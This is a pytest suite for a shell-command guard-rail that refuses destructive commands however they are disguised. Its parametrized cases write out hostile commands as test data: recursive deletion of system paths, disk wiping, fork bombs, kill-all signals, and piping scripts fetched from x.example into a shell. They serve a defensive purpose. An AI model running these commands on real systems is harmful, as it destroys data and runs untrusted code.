"""The command guard-rail: it refuses what a command *does* -- six classes -- however it is
spelled, and lets everyday administration through.

The corpora in ``tests/core/corpora`` (read through ``bench.policy``, which the benchmark
prints) are the contract; the tests below pin the reasoning behind them one idea at a time.
"""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bench.policy import destructive, everyday, refused
from knm.core.policy import (
    BUILTIN_RULES,
    CLASSES,
    MAX_COMMAND_BYTES,
    AllowPattern,
    DenyRule,
    Violation,
    check_command,
    check_script,
)


def rules(command: str, **kwargs: object) -> set[str]:
    return {v.rule for v in check_command(command, **kwargs)}  # type: ignore[arg-type]


# --- the corpora ------------------------------------------------------------------------------


def test_the_destructive_corpus_is_large_and_hand_written_in_every_class() -> None:
    classes = destructive()
    assert set(classes) == set(CLASSES)
    assert sum(len(cases) for cases in classes.values()) >= 300
    for name, cases in classes.items():
        hand = {c.text for c in cases if not c.generated}
        generated = [c for c in cases if c.generated]
        assert len(hand) >= 15, name
        assert len(generated) <= len(cases) / 2, name


def test_at_least_98_percent_of_destructive_commands_and_95_in_every_class_are_refused() -> None:
    total = hits = 0
    misses: dict[str, list[str]] = {}
    for name, cases in destructive().items():
        missed = [c.text for c in cases if not refused(c)]
        misses[name] = missed
        assert 1 - len(missed) / len(cases) >= 0.95, (name, missed)
        total += len(cases)
        hits += len(cases) - len(missed)
    assert hits / total >= 0.98, misses


def test_at_most_1_percent_of_everyday_commands_and_no_builtin_is_refused() -> None:
    cases = everyday()
    assert len(cases) >= 300
    bad = [(c.source, c.text[:80], refused(c)) for c in cases if refused(c)]
    assert not [b for b in bad if "script" in b[0] or "playbook" in b[0] or "workflow" in b[0]]
    assert len(bad) / len(cases) <= 0.01, bad


def test_every_builtin_script_playbook_task_and_workflow_command_is_in_the_everyday_corpus() -> (
    None
):
    sources = {c.source.split(":")[0].split(" (")[0] for c in everyday() if c.builtin}
    assert {"script disk cleanup", "script collect logs", "workflow Node maintenance"} <= sources
    assert any(s.startswith("playbook Node diagnostics") for s in sources)


# --- what a command does, not how it is spelled ----------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf ${X:-/}",  # a default may be what runs
        'rm -rf "$(echo /)"',  # a literal substitution is known
        "rm -rf $UNSET/etc",  # an unknown prefix may be empty
        'rm -rf "$BUILD_DIR"/*',  # the Steam bug
        "cd / && rm -rf *",  # the working directory is followed
        'cd "$WORKDIR" && rm -rf *',  # ... and an unknown one may be /
        "d=/etc; rm -rf $d",  # assignments are followed
        "for d in /etc /usr; do rm -rf $d; done",
        "rm -rf /opt/../etc",
        "rm -rf /e?c",
    ],
)
def test_expansions_are_pessimistic_in_a_destructive_target(command: str) -> None:
    assert rules(command) == {"system-paths"}, command


@pytest.mark.parametrize(
    "wrapper",
    ["env", "sudo -u root", "nohup", "timeout 5", "nice -n 5", "ionice -c3", "setsid",
     "chroot /", "runuser -u root --", "systemd-run --scope", "strace -f", "flock /tmp/l",
     "unshare -m", "doas", "stdbuf -oL", "busybox", "command", "exec", "taskset -c 0",
     "nsenter -t 1 -m --", "setpriv --reuid=0", "sudo env FOO=1 nice timeout 3"],
)  # fmt: skip
def test_every_wrapper_is_unwrapped(wrapper: str) -> None:
    assert rules(f"{wrapper} rm -rf /etc") == {"system-paths"}


@pytest.mark.parametrize(
    "template",
    ["bash -c {q}", "sh -c {q}", "$BASH -c {q}", "eval {q}", "su -c {q}", "su root -c {q}",
     "runuser -l root -c {q}", "watch {q}", "flock /tmp/l -c {q}", "echo {q} | sh",
     "bash <<< {q}", "at now <<< {q}", "parallel ::: {q}", "script -qc {q} /dev/null",
     "find /tmp -maxdepth 0 -exec sh -c {q} \\;", "echo x | xargs -I{{}} sh -c {q}",
     "sudo -s {q}", "trap {q} EXIT"],
)  # fmt: skip
def test_code_run_by_another_program_is_checked_as_code(template: str) -> None:
    command = template.replace("{q}", shlex.quote("mkfs.ext4 /dev/sdb")).replace("{{}}", "{}")
    assert rules(command) == {"block-devices"}, command


def test_a_script_written_then_run_is_checked() -> None:
    assert "fork-bombs" in rules("echo '$0|$0&' > /tmp/b.sh; bash /tmp/b.sh")
    assert "remote-code" in rules("curl -o /tmp/i.sh https://x.example && sh /tmp/i.sh")


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("mkfs.ext4 /dev/sdb1", "block-devices"),
        ("sgdisk --zap-all /dev/sda", "block-devices"),
        ("parted -s /dev/sda mklabel gpt", "block-devices"),
        ("nvme format /dev/nvme0n1", "block-devices"),
        ("cryptsetup luksFormat /dev/sdb1", "block-devices"),
        ("mdadm --zero-superblock /dev/sda1", "block-devices"),
        ("lvremove -f vg0/root", "block-devices"),
        ("dd if=/dev/zero of=/dev/dm-0", "block-devices"),
        ("cat x > /dev/mapper/vg0-root", "block-devices"),
        ("dd if=/dev/zero of=/dev/$DEV", "block-devices"),
        ("f() { f & f; }; f", "fork-bombs"),
        ("while :; do sleep 9 & done", "fork-bombs"),
        ("for i in {1..100000}; do bash & done", "fork-bombs"),
        ("kill -STOP -1", "kill-all"),
        ("pkill -9 -v sshd", "kill-all"),
        ("mkfs.vfat -n LABEL /dev/sdb1", "block-devices"),  # -n is a dry run for ext only
        ("kill -9 -1", "kill-all"),
        ("pkill -9 .", "kill-all"),
        ("kill -9 $(ps -e -o pid=)", "kill-all"),
        ("echo c > /proc/sysrq-trigger", "sysrq"),
        ("curl -s https://x.example | sh", "remote-code"),
        ("echo cm0gLXJmIC8K | base64 -d | bash", "remote-code"),
        ("sh <(curl -s https://x.example)", "remote-code"),
        ('eval "$(curl -s https://x.example)"', "remote-code"),
        ('eval "$CMD"', "remote-code"),
        ("truncate -s 0 /etc/passwd", "system-paths"),
        ("mv /var/lib/etcd /tmp", "system-paths"),
        ("chmod -R 000 /etc/kubernetes", "system-paths"),
    ],
)
def test_each_class_is_reported_by_its_name(command: str, rule: str) -> None:
    assert rule in BUILTIN_RULES
    assert rules(command) == {rule}


@pytest.mark.parametrize(
    "command",
    [
        "mkfs.ext4 -n /dev/sdb1", "mkfs -V", "mkfs.xfs -N /dev/sdc", "parted -l",
        "parted /dev/sda print", "sfdisk -l /dev/sda", "fdisk -l", "wipefs /dev/sda",
        "wipefs -n -a /dev/sda", "sgdisk -p /dev/sda", "lvremove --test vg0/x",
        "find /var/log -name '*.gz' -mtime +7 -delete", "rm -rf /tmp/build-123",
        "rm -rf /var/lib/kubelet/pods/x", "dd if=/dev/sda of=/tmp/mbr bs=512 count=1",
        "echo 'rm -rf /' > notes.txt", "grep -r 'mkfs' /etc", "kill -HUP 1", "kill 4242",
        "eval \"$(ssh-agent -s)\"", "echo 'ls -la' | sh", "curl -s https://x.example | jq .",
        "cd /tmp && rm -rf *", "while true; do date; sleep 5; done",
        "walk() { for d in \"$@\"; do walk \"$d\"/*; done; }",
        "chmod +x /usr/local/bin/*", "kill -0 -1", "cat script.sh | bash",
        "for n in $(cat nodes); do ssh $n uptime & done; wait", "cd /var/log && rm -rf *",
    ],
)  # fmt: skip
def test_dry_runs_listings_and_cleanups_pass(command: str) -> None:
    assert check_command(command) == [], command


def test_the_violation_names_the_command_that_would_run() -> None:
    [violation] = check_command("cd /tmp && sudo rm -rf '/' ; echo done")
    assert violation == Violation(rule="system-paths", matched="rm -rf /")
    assert violation.message == "dangerous command blocked: rm -rf /"


def test_every_dangerous_command_of_a_line_is_reported() -> None:
    assert [v.rule for v in check_command("rm -rf / ; mkfs.ext4 /dev/sdb ; ls")] == [
        "system-paths",
        "block-devices",
    ]


def test_a_script_with_a_dangerous_line_in_the_middle_is_refused() -> None:
    script = "#!/bin/bash\nset -eu\ncase $1 in\n  stop) systemctl stop kubelet ;;\nesac\n"
    script += "[[ -d /var/cache/apt ]] && apt-get clean\necho $((1 + 2))\nmkfs.ext4 /dev/sdb\n"
    assert {v.rule for v in check_script(script)} == {"block-devices"}


# --- parameters: deferred at save, checked with their values at run ----------------------------


def test_a_declared_parameter_is_deferred_at_save_and_checked_with_its_value_at_run() -> None:
    script = 'rm -rf -- "$TARGET"\n'
    assert {v.rule for v in check_script(script)} == {"system-paths"}  # unknown: may be /
    assert check_script(script, deferred=["TARGET"]) == []
    assert check_script(script, variables={"TARGET": "/tmp/build"}) == []
    assert {v.rule for v in check_script(script, variables={"TARGET": "/"})} == {"system-paths"}


def test_a_parameter_value_run_as_code_is_checked() -> None:
    assert check_script('eval "$ACTION"', variables={"ACTION": "uptime"}) == []
    assert rules('eval "$ACTION"', variables={"ACTION": "kill -9 -1"}) == {"kill-all"}


# --- site rules ---------------------------------------------------------------------------------


def test_a_site_deny_rule_matches_each_command_written_and_unwrapped() -> None:
    rule = DenyRule(name="no-iptables-flush", pattern=r"^iptables\b.*\s-F\b")
    assert rules("sudo iptables -F", extra_rules=[rule]) == {"no-iptables-flush"}
    assert rules("bash -c 'iptables -t nat -F'", extra_rules=[rule]) == {"no-iptables-flush"}
    assert check_command("iptables -L", extra_rules=[rule]) == []


def test_site_patterns_run_in_linear_time_and_refuse_backreferences() -> None:
    slow_in_backtracking_engines = DenyRule(name="nested", pattern=r"^(a|a)+$")
    assert (
        check_command("echo " + "a" * 5000 + "b", extra_rules=[slow_in_backtracking_engines]) == []
    )
    with pytest.raises(ValueError):
        check_command("ls", extra_rules=[DenyRule(name="backref", pattern=r"(a)\1")])


def test_an_allow_pattern_lets_a_command_through_the_classes_but_not_other_commands() -> None:
    wipe_scratch = AllowPattern(name="scratch", pattern=r"^wipefs -a /dev/vdz$")
    assert check_command("sudo wipefs -a /dev/vdz", allow_patterns=[wipe_scratch]) == []
    assert rules("wipefs -a /dev/vdz; wipefs -a /dev/vda", allow_patterns=[wipe_scratch]) == {
        "block-devices"
    }


def test_allowing_a_class_by_name_skips_only_that_class() -> None:
    assert check_command("mkfs.ext4 /dev/sdb1", allowed={"block-devices"}) == []
    assert rules("mkfs.ext4 /dev/sdb1 && rm -rf /", allowed={"block-devices"}) == {"system-paths"}


# --- bounds -------------------------------------------------------------------------------------


def test_a_command_over_64_kib_is_refused_before_it_is_parsed() -> None:
    [violation] = check_command("echo " + "a" * MAX_COMMAND_BYTES)
    assert violation.rule == "too-long"
    assert violation.message.startswith("command too long:")
    assert check_command(("echo " + "a" * MAX_COMMAND_BYTES)[:MAX_COMMAND_BYTES]) == []


@pytest.mark.parametrize(
    "command",
    [
        "[[ 1 ]]; f(){ " + "f" * 65000,  # stalled the old regex for 84 s
        "(" * 30000 + "ls" + ")" * 30000,
        "echo " + "{a,b}" * 12000,
        "echo " + "$(a)" * 2000,
        "sh -c " * 10000,
        ":(){ :|:& };:\n" * 400,
    ],
)
def test_pathological_commands_are_answered_not_crashed_on(command: str) -> None:
    assert isinstance(check_command(command[:MAX_COMMAND_BYTES]), list)


def test_absurdly_deep_nesting_is_refused_rather_than_trusted() -> None:
    # Here-docs into a shell nest code in linear space; nine levels of ``sh -c`` quoting
    # take 39 KB of quotes, past the checker's count of word parts, and are refused for that.
    lines = [f"sh <<'E{i}'" for i in range(9)] + ["mkfs /dev/sda"]
    assert "nesting-too-deep" in rules("\n".join(lines + [f"E{i}" for i in range(8, -1, -1)]))
    command = "mkfs /dev/sda"
    for _ in range(9):
        command = f"sh -c {shlex.quote(command)}"
    assert rules(command) & {"nesting-too-deep", "too-complex"}


@settings(max_examples=300, deadline=None)
@given(text=st.text(max_size=200))
def test_arbitrary_text_never_crashes_the_checker(text: str) -> None:
    assert isinstance(check_command(text), list)


_SHELLISH = ["rm", "-rf", "/", "$(", ")", "`", "'", '"', "${", "}", "{", "(", ";", "&", "|", "<",
             ">", "<<", "EOF", "\n", "$X", "$1", "$@", "sh", "-c", "eval", "f()", "f", "while",
             "do", "done", "case", "esac", "((", "))", "[[", "]]", "xargs", "find", "-exec",
             "{}", "cd", "*", "~", "x=", "curl", "base64", "-d", "of=/dev/sda", "<(", "sudo",
             "env", "-S", "watch", ":::", "trap", "printf", "%s", "\\", "kill", "-1", " ", "𝔘"]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(tokens=st.lists(st.sampled_from(_SHELLISH), max_size=40))
def test_arbitrary_shell_syntax_never_crashes_the_checker(tokens: list[str]) -> None:
    assert isinstance(check_command(" ".join(tokens)), list)


_TARGETS = ["/", "/*", "/etc", "/usr/", "/var/lib/etcd", "~", "$HOME", "/boot", "/etc/kubernetes"]
_WRAPPERS = ["", "sudo ", "env FOO=1 ", "nohup ", "timeout 30 ", "chroot / ", "doas ",
             "systemd-run --scope ", "strace -f ", "unshare -m ", "FOO=1 "]  # fmt: skip
_CONTEXTS = ["{}", "true && {}", "ls | {}", "({})", "echo $({})", "bash -c {!r}", "eval {!r}",
             "watch {!r}", "su -c {!r}"]  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(
    flags=st.sampled_from(["-rf", "-fr", "-Rf", "-r -f", "--recursive --force", "-rfv", "-r"]),
    target=st.sampled_from(_TARGETS),
    wrappers=st.lists(st.sampled_from(_WRAPPERS), max_size=3),
    context=st.sampled_from(_CONTEXTS),
)
def test_recursive_removal_of_a_critical_path_is_refused_in_every_spelling(
    flags: str, target: str, wrappers: list[str], context: str
) -> None:
    command = context.format(f"{''.join(wrappers)}rm {flags} {target}")
    assert "system-paths" in rules(command), command


@settings(max_examples=200, deadline=None)
@given(
    parts=st.lists(
        st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789._-", min_size=1, max_size=12).filter(
            lambda s: s not in (".", "..")
        ),
        min_size=1,
        max_size=4,
    ),
    wrappers=st.lists(st.sampled_from(_WRAPPERS), max_size=3),
)
def test_recursive_removal_under_tmp_is_allowed(parts: list[str], wrappers: list[str]) -> None:
    command = f"{''.join(wrappers)}rm -rf {shlex.quote('/tmp/' + '/'.join(parts))}"
    assert check_command(command) == [], command


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ('x="a\vb"; rm -rf /etc $x', "rm -rf /etc a\\vb"),
        ('x="a\fb"; rm -rf /etc $x', "rm -rf /etc a\\fb"),
        # a control character the text holds is no stand-in: it is shown as it is
        ('x="a\vb\x01\x02"; rm -rf /etc $x', "rm -rf /etc a\\vb\x01\x02"),
        ('rm -rf /etc "\f"', "rm -rf /etc \\f"),
    ],
)
def test_a_vertical_tab_or_form_feed_in_a_word_is_shown_escaped(command: str, shown: str) -> None:
    # Part of a word to bash; the parser is given a stand-in, never shown in the report.
    assert check_command(command) == [Violation("system-paths", shown)]


def test_a_vertical_tab_in_a_value_given_for_the_run_is_shown_escaped_too() -> None:
    violations = check_command('sh -c "rm -rf /etc $x"', variables={"x": "a\vb\x01"})
    assert Violation("system-paths", "rm -rf /etc a\\vb\x01") in violations


# --- one effect, one verdict: spellings found to differ (2026-12-05) ---------------------------

_EMPTYINGS = ["> {f}", ": > {f}", ">| {f}", "1> {f}", "&> {f}", "echo > {f}", "cp /dev/null {f}",
              "install /dev/null {f}", "dd if=/dev/null of={f}", "tee {f} < /dev/null",
              "truncate -s0 {f}", "shred -u {f}", "ln -sf /dev/null {f}", "rm -f {f}",
              "unlink {f}", "find {f} -delete", "find {f} -exec rm {{}} \\;", "echo x 1<> {f}",
              "sort -o {f} /dev/null", "gzip {f}", "fallocate --punch-hole -l 1M {f}"]  # fmt: skip


@pytest.mark.parametrize("spelling", _EMPTYINGS)
@pytest.mark.parametrize(
    "path", ["/etc/passwd", "/etc/kubernetes/pki/ca.key", "/var/lib/etcd/member/snap/db"]
)
def test_emptying_or_deleting_a_critical_file_is_refused_however_it_is_spelled(
    spelling: str, path: str
) -> None:
    assert rules(spelling.format(f=path)) == {"system-paths"}


def test_every_file_inside_etcds_data_is_as_critical_as_its_directory() -> None:
    assert rules("> /var/lib/etcd/member/snap/db") == rules("rm -rf /var/lib/etcd/member")
    assert rules("cd /var/lib/etcd/member/snap && > db") == {"system-paths"}
    # a restore from a regular file replaces it whole, as for the kubelet's config
    assert check_command("cp /var/backups/db /var/lib/etcd/member/snap/db") == []


@pytest.mark.parametrize(
    "command",
    ["cp /tmp/passwd /etc/", "cp /tmp/passwd /etc", "cp -t /etc /tmp/passwd",
     "mv /tmp/passwd /etc/", "install -t /etc /tmp/passwd", "ln -sf /tmp/passwd /etc/",
     "rsync /tmp/passwd /etc/", "rsync /tmp/passwd /etc/passwd"],
)  # fmt: skip
def test_a_copy_into_a_directory_is_judged_where_it_lands(command: str) -> None:
    assert rules(command) == rules("cp /tmp/passwd /etc/passwd") == {"system-paths"}


def test_a_config_copied_into_its_directory_passes_as_when_named_whole() -> None:
    assert check_command("cp admin.conf /etc/kubernetes/") == []
    assert check_command("cp my.yaml /etc/kubernetes/manifests/") == []
    assert check_command("install -m 644 x.conf -t /etc/kubernetes") == []


def test_find_acts_on_its_start_too_unless_mindepth_skips_it() -> None:
    assert rules("find /etc/passwd -exec rm {} \\;") == rules("rm /etc/passwd")
    assert check_command("find /etc/passwd -mindepth 1 -exec rm {} \\;") == []
    assert check_command("find /etc/passwd -mindepth 1 -delete") == []


@pytest.mark.parametrize("mode", ["777", "666", "775", "a+rwx", "o+w"])
@pytest.mark.parametrize("tree", ["/etc/kubernetes", "/var/lib/etcd", "/var/lib/kubelet", "~"])
def test_giving_everyone_write_recursively_is_no_hardening_even_where_root_owns_all(
    mode: str, tree: str
) -> None:
    assert rules(f"chmod -R {mode} {tree}") == {"system-paths"}
    assert check_command(f"chmod -R 600 {tree}") == []


def test_deleting_a_btrfs_subvolume_is_judged_as_rm_rf_of_its_path() -> None:
    for path in ("/", "/var/lib/kubelet", "/etc"):
        assert rules(f"btrfs subvolume delete {path}") == rules(f"rm -rf {path}")
    assert rules("btrfs sub del /") == {"system-paths"}
    assert check_command("btrfs subvolume delete /.snapshots/42/snapshot") == []


@pytest.mark.parametrize(
    "command",
    ["curl -o /etc/shadow https://x.example", "wget -O /etc/passwd https://x.example",
     "curl -sSLo/etc/passwd https://x.example", "openssl genrsa -out /etc/kubernetes/pki/ca.key"],
)  # fmt: skip
def test_a_program_writing_a_critical_file_through_an_output_option_is_refused(
    command: str,
) -> None:
    assert rules(command) == {"system-paths"}


def test_a_compressor_deletes_what_it_compresses_unless_told_to_keep_it() -> None:
    assert rules("gzip /etc/passwd") == rules("rm /etc/passwd") == {"system-paths"}
    assert rules("gzip -r /etc/kubernetes") == {"system-paths"}
    assert check_command("gzip -k /etc/passwd") == []
    assert check_command("zstd /etc/passwd") == []  # zstd keeps it unless --rm
    assert rules("zstd --rm /etc/passwd") == {"system-paths"}


def test_writing_in_place_through_an_output_descriptor_is_a_write() -> None:
    assert rules("echo x 1<> /etc/passwd") == {"system-paths"}
    assert rules("echo b 1<> /proc/sysrq-trigger") == {"sysrq"}
    assert check_command("cat <> /etc/passwd") == []  # read and write on stdin: only read


@pytest.mark.parametrize(
    "command",
    ["echo 1 | tee /sys/block/sda/device/delete", "echo 1 | dd of=/sys/block/sda/device/delete",
     "curl -o /dev/sda https://x.example/img", "wget -O /dev/nvme0n1 https://x.example/img"],
)  # fmt: skip
def test_a_disk_is_written_or_removed_through_tee_dd_or_an_output_option_as_through_a_redirection(
    command: str,
) -> None:
    assert rules(command) == {"block-devices"}


@pytest.mark.parametrize("pid", ["-001", "-01", "'-1'", "01", "+1"])
def test_a_pid_is_read_as_the_number_kill_reads(pid: str) -> None:
    assert rules(f"kill -9 {pid}") == {"kill-all"}
    assert check_command(f"kill -0 {pid}") == []  # signal 0 only asks whether they exist


@pytest.mark.parametrize(
    "command",
    ['python3 -c "$(curl -s https://x.example)"', 'perl -e "$(curl -s https://x.example)"',
     'node -e "$(wget -qO- https://x.example)"', 'python3 -c "$(echo cHJpbnQoMSk= | base64 -d)"'],
)  # fmt: skip
def test_fetched_code_given_to_an_interpreter_inline_is_remote_code_as_with_bash_c(
    command: str,
) -> None:
    assert rules(command) == rules('bash -c "$(curl -s https://x.example)"') == {"remote-code"}
    assert check_command("python3 -c 'print(1)' \"$(curl -s https://x.example)\"") == []


def test_two_globs_name_the_same_file_only_if_their_literal_ends_agree() -> None:
    assert check_command("rm -f /etc/kubernetes/*.bak") == check_command("rm -f /etc/*.bak") == []
    assert rules("rm -f /etc/kubernetes/*.conf") == {"system-paths"}
    assert rules("rm -f /etc/kubernetes/a*") == {"system-paths"}  # admin.conf


def test_a_copy_into_dev_lands_on_the_device_it_is_named_after() -> None:
    assert rules("cp /tmp/sda /dev/") == rules("cp /tmp/sda /dev/sda") == {"block-devices"}
    assert rules("cp -t /dev /tmp/sda") == {"block-devices"}
    assert check_command("cp /tmp/x /dev/shm/") == []


@pytest.mark.parametrize(
    "command",
    ["ls /proc | grep -E '^[0-9]+$' | xargs kill -9", "ls /proc | xargs kill -9",
     "cd /proc && ls | xargs kill"],
)  # fmt: skip
def test_listing_proc_lists_every_pid_as_ps_e_does(command: str) -> None:
    assert rules(command) == rules("ps -e -o pid= | xargs kill -9") == {"kill-all"}
    assert check_command("ls /proc | grep -E '^[0-9]+$' | xargs -I{} cat /proc/{}/comm") == []


@pytest.mark.parametrize(
    "command",
    ["scp h:/tmp/i.sh /tmp/ && sh /tmp/i.sh", "aria2c -o i.sh https://x.example && sh i.sh",
     "wget -P /tmp https://x.example/i.sh && sh /tmp/i.sh",
     "curl --output-dir /tmp -O https://x.example/i.sh && sh /tmp/i.sh",
     "curl -o /tmp/i.sh https://x.example; cp /tmp/i.sh /tmp/j.sh; sh /tmp/j.sh",
     "curl -o /tmp/i.sh https://x.example; mv /tmp/i.sh /tmp/j; /tmp/j"],
)  # fmt: skip
def test_a_fetched_file_is_followed_wherever_it_is_saved_or_copied_before_it_runs(
    command: str,
) -> None:
    assert rules(command) == {"remote-code"}


def test_a_directory_holding_a_critical_file_is_as_critical_as_the_file() -> None:
    assert rules("rm -rf /lib/x86_64-linux-gnu") == {"system-paths"}  # libc is inside
    assert rules("rm -rf /var/lib/kubelet/pki") == rules("rm -f /var/lib/kubelet/pki/x.pem")
    assert check_command("rm -rf /var/lib/kubelet/pods/x") == []


@pytest.mark.parametrize("device", ["/dev/sd[b]", "/dev/vdb?", "/dev/xvd[f]", "/dev/nvme1n?"])
def test_a_device_named_by_any_glob_is_a_device(device: str) -> None:
    assert rules(f"wipefs -a {device}") == rules("wipefs -a /dev/sdb") == {"block-devices"}
    assert check_command("echo hi > /dev/tty?") == []


def test_sleep_0_neither_ends_nor_paces_a_loop() -> None:
    assert rules("while sleep 0; do sleep 1 & done") == rules("while true; do sleep 1 & done")
    assert rules("while true; do sleep 0; bash & done") == {"fork-bombs"}
    assert check_command("while sleep 5; do date & done") == []


def test_sponge_writes_its_file_as_tee_does() -> None:
    assert rules("echo | sponge /etc/passwd") == rules("echo | tee /etc/passwd")
    assert rules("cat /dev/zero | sponge /dev/sda") == {"block-devices"}
    assert check_command("sort /etc/hosts | sponge /etc/hosts") == []


def test_pgrep_v_lists_every_process_as_pkill_v_signals_them() -> None:
    assert rules("kill -9 $(pgrep -v xyz)") == rules("pkill -9 -v xyz") == {"kill-all"}
    assert check_command("pgrep -f kubelet | xargs kill -HUP") == []


def test_a_line_read_from_known_text_is_that_text_as_an_assignment_is() -> None:
    read = "printf '%s\\n' /etc/passwd | while read f; do : > \"$f\"; done"
    assert rules(read) == rules('f=/etc/passwd; : > "$f"') == {"system-paths"}
    assert check_command('echo /tmp/build | while read d; do rm -rf "$d"; done') == []
